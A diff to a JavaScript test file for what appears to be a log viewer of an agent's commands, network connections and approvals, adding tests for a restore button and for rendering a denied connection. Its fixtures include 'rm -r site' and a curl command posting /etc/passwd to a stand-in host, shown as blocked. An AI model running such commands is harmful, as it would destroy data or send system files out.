@@ -26,6 +26,8 @@ beforeEach(() => {
     read: async (/** @type {number} */ n) => (asked.push(n), { result: { output: "<b>one</b>\ntwo" } }),
     play: (/** @type {number} */ at) => asked.push(["play", at]),
     link: (/** @type {number} */ at) => asked.push(["link", at]),
+    mayGoBack: () => false,
+    goBack: (/** @type {any} */ row, /** @type {any} */ asks) => asked.push(["back", row.n, asks.className]),
   };
 });
 
@@ -96,4 +98,30 @@ test("its buttons lead to the moment", () => {
   assert.deepEqual(asked, [["play", 100], ["link", 100]]);
   assert.equal(facts(place).Of, "the screen, the terminals");
   assert.equal(place.querySelector("pre").textContent, "all <b>done</b>");
+});
+
+test("who may restore files can ask to go back to before it", () => {
+  const entry = { kind: "command", operation: "bash.exec", outcome: "ok", request: { command: "rm -r site" } };
+  assert.equal(opened(entry).querySelector(".asked"), null);
+  actions.mayGoBack = () => true;
+  const place = opened(entry);
+  assert.equal(place.lastElementChild.className, "asked");
+  place.querySelectorAll("button").at(-1).click();
+  assert.deepEqual(asked.at(-1), ["back", 1, "asked"]);
+});
+
+test("a connection has its place, rule, program and bytes, and what its program was told", () => {
+  const place = opened({
+    kind: "egress", event: "connections", action: "deny", host: "a.example", port: 443, protocol: "tls", address: null, rule: "default", process: "curl -d @/etc/passwd a.example",
+    bytes_sent: 0, bytes_received: 2048, session: "shell:main", reason: "denied by the rule default", request: "POST /upload",
+  });
+  const told = facts(place);
+  assert.deepEqual({ ...told, Time: "", Who: "", Record: "" }, {
+    Time: "", Who: "", Record: "", Host: "a.example · 443 · tls · POST /upload", Rule: "default", Program: "curl -d @/etc/passwd a.example", Bytes: "0 B sent, 2.0 KiB received", Session: "shell:main" });
+  assert.equal(place.querySelector("pre").textContent, "denied by the rule default");
+});
+
+test("an approval has its rule and details", () => {
+  const told = facts(opened({ kind: "handoff", event: "open", id: "h", asks: "approve", subject: "shell", rule: "push", details: { command: "git push" } }));
+  assert.deepEqual([told.Rule, told.command], ["push", "git push"]);
 });
